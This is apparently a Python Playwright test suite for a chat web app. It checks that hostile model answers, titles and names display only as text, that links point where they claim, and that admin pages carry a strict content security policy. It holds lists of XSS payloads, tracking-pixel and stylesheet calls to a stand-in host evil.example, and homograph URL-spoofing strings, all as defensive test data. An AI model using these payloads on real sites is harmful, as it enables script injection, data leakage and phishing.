"""Nothing a model, a title or a person says runs as a script, or calls another origin without a click."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from conversations import services
from conversations.types import Message

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><script>window.hacked = 1</script></svg>",
    "[click](javascript:window.hacked=1) [tab](java\tscript:window.hacked=1) <javascript:window.hacked=1>",
    "![pixel](https://evil.example/pixel.png?secret) ![d](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![both](https://evil.example/a.png)](https://evil.example/)",
    "![ref][r]\n\n[r]: https://evil.example/r.png 'onload=window.hacked=1'",
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>body{background:url(https://evil.example/)}</style>',
    '<form action="https://evil.example/"><input name=password autofocus onfocus="window.hacked=1"></form>',
    '```html"><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```',
    '<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4" autoplay></video>',
    "| <img src=https://evil.example/t.png> | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:0) |",
    '<div style="background:url(https://evil.example/s.png)" onclick=window.hacked=1 id=composer>x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    '[a](https://evil.example/"onmouseover="window.hacked=1)',
    r"$\href{javascript:window.hacked=1}{x}$ $\text{<img src=x onerror=window.hacked=1>}$ $$\unknown{<script>}$$",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "</article></main><script>window.hacked=1</script>",
]
TITLE = "</title><script>window.hacked=1</script><img src=x onerror=window.hacked=1>"


def assert_calm(page):
    assert page.evaluate("window.hacked") is None
    assert (
        page.evaluate(
            "document.querySelectorAll('.messages :is(img, script, iframe, form input, style, svg image)').length"
        )
        == 0
    )


@pytest.mark.parametrize("live", [True, False], ids=["live", "reloaded"])
def test_a_hostile_answer_is_only_text(visits, site, scripted, alice, cookies_of, live):
    answer = "\n\n".join(HOSTILE)
    scripted.enqueue(*[answer[i : i + 7] for i in range(0, len(answer), 7)])
    scripted.enqueue_title(TITLE)
    page = cookies_of(visits.window(site), site, alice)
    page.goto("/")
    page.get_by_placeholder("Ask something…").fill("<img src=x onerror=window.hacked=1>")
    page.keyboard.press("Enter")
    reply = page.locator("article.assistant[data-status=completed]")
    expect(reply).to_be_visible()
    if not live:
        page.reload()
    expect(reply.locator(".prose")).to_contain_text("<script>window.hacked = 1</script>")
    page.locator(".messages a[href^='https://evil']").first.hover()
    assert_calm(page)
    hrefs = page.eval_on_selector_all(".messages .prose a", "links => links.map(a => [a.protocol, a.rel])")
    assert {protocol for protocol, _ in hrefs} <= {"http:", "https:", "mailto:"}
    assert {rel for _, rel in hrefs} == {"noopener noreferrer nofollow"}


DECEIVING = [
    *("https://evil.example\\@bank.example/", "https://[@evil.example/", "https://bank.example℀@evil.example/"),
    *("https://b%D0%B0nk.example/", "https://strauß.example/", "https://bank.example&#64;evil.example/"),
    *("https://evil.example&#47;.bank.example/", "https://evil.example&#x5c;.bank.example/", "https://i❤.example/"),
    *("https://\\evil.example/", "https://bank.example%EF%BC%8Eevil.example/", "https://🄰pple.example/"),
]


def test_the_host_behind_a_link_is_the_one_that_the_browser_would_go_to(visits, site, alice, cookies_of):
    conversation = services.create(alice, title="Links")
    answer = "\n\n".join(f"[bank.example]({url}) ![]({url}) [{n}]" for n, url in enumerate(DECEIVING))
    answer += "\n\n" + "\n".join(f"[{n}]: {url}" for n, url in enumerate(DECEIVING))
    services.store(conversation, Message("user", "Hi", id="u"), Message("assistant", answer, parent_id="u"))
    page = cookies_of(visits.window(site), site, alice)
    page.goto(f"/c/{conversation.pk}/")
    links = page.eval_on_selector_all(
        ".messages .prose a", "links => links.map(a => [a.hostname, (a.querySelector('.host') ?? a).innerText.trim()])"
    )
    links = [(host, said) for host, said in links if host]  # what is no address leads nowhere
    assert len(links) > 2 * len(DECEIVING)
    assert [host for host, _said in links] == [said for _host, said in links]


def test_hostile_titles_and_names_are_only_text(visits, site, admin, client, cookies_of):
    admin.name = admin.first_name = TITLE[:30]
    admin.save()
    conversation = services.create(admin, title=TITLE)
    services.store(conversation, Message("user", TITLE, id="u"), Message("assistant", TITLE, parent_id="u"))
    page = cookies_of(visits.window(site), site, admin)
    for url in ("/", f"/c/{conversation.pk}/", f"/c/{conversation.pk}/rename/", f"/c/{conversation.pk}/delete/", "/c/"):
        page.goto(url)
        assert page.evaluate("window.hacked") is None
    for url in ("conversation/", "generation/", "chatmodel/", f"conversation/{conversation.pk}/change/"):
        page.goto(f"/admin/conversations/{url}")
        assert page.evaluate("window.hacked") is None


def test_every_page_of_the_admin_lives_under_the_strict_policy(visits, site, admin, catalogue, cookies_of):
    page = cookies_of(visits.window(site), site, admin)
    for url in ("", "conversations/chatmodel/add/", "accounts/user/", f"accounts/user/{admin.pk}/change/"):
        response = page.goto(f"/admin/{url}")
        assert response.status == 200
        assert "script-src 'self'" in response.headers["content-security-policy"]
    page.goto("/admin/conversations/chatmodel/add/")
    page.get_by_label("Label").fill("My model")
    page.get_by_label("Model id").fill("me/mine")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("was added successfully")).to_be_visible()
